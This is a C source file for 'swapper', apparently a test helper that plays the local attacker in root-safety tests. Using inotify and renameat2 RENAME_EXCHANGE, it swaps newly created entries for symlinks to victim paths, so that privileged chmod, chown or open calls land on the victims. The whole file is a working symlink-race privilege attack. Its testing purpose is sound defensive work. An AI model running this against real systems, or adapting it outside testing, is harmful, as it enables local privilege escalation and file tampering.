/*
 * swapper: the local attacker of the root-safety tests (run as an unprivileged user, e.g. nobody).
 *
 *   swapper VICTIM_DIR VICTIMS DIR...
 *
 * Keeps a symbolic link DIR/.swap pointing at VICTIM_DIR/v<k> in every DIR it watches (inotify,
 * IN_CREATE). As soon as anything else creates an entry in a DIR (a socket, a fifo, a directory),
 * it exchanges DIR/.swap with that entry (renameat2 RENAME_EXCHANGE: one atomic step, for files
 * and directories alike), so that a privileged process that goes on to chmod, chown or open the
 * entry by its path reaches the victim instead; the entry itself is kept as DIR/.old<n>, and a new
 * .swap is made for the next victim (k counts up modulo VICTIMS). Prints "ready" once every watch is in place, and
 * "planted <n>" (the number of entries it replaced) when it gets SIGTERM or SIGINT.
 */
#define _GNU_SOURCE
#include <errno.h>
#include <fcntl.h>
#include <limits.h>
#include <signal.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/inotify.h>
#include <unistd.h>

static volatile sig_atomic_t stop;
static const char *victims;
static long nvictims;
static long next_victim;

static void on_signal(int sig) {
    (void) sig;
    stop = 1;
}

/* A fresh DIR/.swap pointing at the next victim. */
static void arm(const char *dir) {
    char link[PATH_MAX], target[PATH_MAX];
    snprintf(link, sizeof link, "%s/.swap", dir);
    snprintf(target, sizeof target, "%s/v%ld", victims, next_victim++ % nvictims);
    unlink(link);
    if (symlink(target, link) != 0) {
        fprintf(stderr, "swapper: symlink %s: %s\n", link, strerror(errno));
    }
}

int main(int argc, char **argv) {
    if (argc < 4) {
        fprintf(stderr, "usage: swapper victim_dir victims dir...\n");
        return 2;
    }
    victims = argv[1];
    nvictims = atol(argv[2]);
    if (nvictims <= 0) {
        return 2;
    }
    int ndirs = argc - 3;
    char **dirs = argv + 3;
    int *wds = calloc((size_t) ndirs, sizeof *wds);
    struct sigaction sa;
    memset(&sa, 0, sizeof sa);
    sa.sa_handler = on_signal; /* no SA_RESTART: read() returns EINTR */
    sigaction(SIGTERM, &sa, 0);
    sigaction(SIGINT, &sa, 0);
    int in = inotify_init1(IN_CLOEXEC);
    if (in < 0) {
        perror("swapper: inotify_init1");
        return 1;
    }
    for (int i = 0; i < ndirs; i++) {
        wds[i] = inotify_add_watch(in, dirs[i], IN_CREATE);
        if (wds[i] < 0) {
            fprintf(stderr, "swapper: watch %s: %s\n", dirs[i], strerror(errno));
            return 1;
        }
        arm(dirs[i]);
    }
    printf("ready\n");
    fflush(stdout);
    long planted = 0;
    char buf[64 * 1024] __attribute__((aligned(__alignof__(struct inotify_event))));
    while (!stop) {
        ssize_t n = read(in, buf, sizeof buf);
        if (n <= 0) {
            if (n < 0 && errno == EINTR) {
                continue;
            }
            break;
        }
        for (char *p = buf; p < buf + n;) {
            struct inotify_event *ev = (struct inotify_event *) p;
            p += sizeof *ev + ev->len;
            if (ev->len == 0 || ev->name[0] == '.') {
                continue; /* our own .swap */
            }
            const char *dir = 0;
            for (int i = 0; i < ndirs; i++) {
                if (wds[i] == ev->wd) {
                    dir = dirs[i];
                }
            }
            if (!dir) {
                continue;
            }
            char from[PATH_MAX], to[PATH_MAX], keep[PATH_MAX];
            snprintf(from, sizeof from, "%s/.swap", dir);
            snprintf(to, sizeof to, "%s/%s", dir, ev->name);
            if (renameat2(AT_FDCWD, from, AT_FDCWD, to, RENAME_EXCHANGE) == 0) {
                planted++;
                snprintf(keep, sizeof keep, "%s/.old%ld", dir, planted);
                rename(from, keep);
            }
            arm(dir);
        }
    }
    printf("planted %ld\n", planted);
    fflush(stdout);
    return 0;
}
